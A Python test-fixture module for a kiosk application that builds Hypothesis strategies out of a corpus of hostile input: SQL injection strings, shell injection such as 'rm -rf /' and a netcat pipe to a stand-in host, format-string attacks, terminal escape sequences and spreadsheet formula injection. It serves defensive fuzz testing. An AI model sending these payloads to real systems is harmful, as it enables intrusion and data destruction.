"""Text an attacker, a damaged label or a misbehaving server may hand the kiosk: SQL, shell
metacharacters, format strings, control characters (NUL, ESC, CR, LF, tab), bidi and line
separators, lone surrogates and 10 KB floods; and Hypothesis strategies mixing them with any
text. Every layer must take these as data."""

from __future__ import annotations

from hypothesis import strategies as st

SQL = ["'; DROP TABLE entries; --", '" OR 1=1 --', "x' UNION SELECT * FROM sqlite_master --", "%' --"]
SHELL = ["$(reboot)", "`id`", "a; rm -rf / #", "a | nc evil 9", "a && b", "${IFS}", "~root/*"]
FORMAT = ["%s", "%n%n%n%n", "%x%x", "{0}", "{}", "{0.__class__}", "{name}", "%(x)s", "%%", "{{}}"]
CONTROL = [
    "\0",
    "EM00\x0001",
    "\x1b[2J\x1b]0;owned\x07",
    "a\rb",
    "a\nb",
    "a\r\nb",
    "a\tb",
    "\t\t",
    "\x85",
    "\u2028\u2029",
    "\u202eevil",
    "\x0b\x0c\x1c\x1d\x1e",
    "\x7f\x9b31m",
    '=HYPERLINK("http://x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
]
LONG = ["A" * 10_240, "가" * 10_240, ("EM0000100001\t" * 800)[:10_240]]
SURROGATES = ["\ud800", "a\udcffb", "\udfff\ud800"]

# Valid Unicode (what SQLite, SIP2 and files can hold) and text that is not (lone surrogates).
UNICODE = SQL + SHELL + FORMAT + CONTROL + LONG
EVERYTHING = UNICODE + SURROGATES


def hostile_text(*, surrogates: bool = False, max_size: int = 60) -> st.SearchStrategy[str]:
    """One of the corpus, any text, or pieces of both run together."""
    corpus = EVERYTHING if surrogates else UNICODE
    alphabet = st.characters(exclude_categories=() if surrogates else ("Cs",))
    piece = st.sampled_from(corpus) | st.text(alphabet, max_size=max_size)
    return piece | st.lists(piece, min_size=2, max_size=4).map("".join)
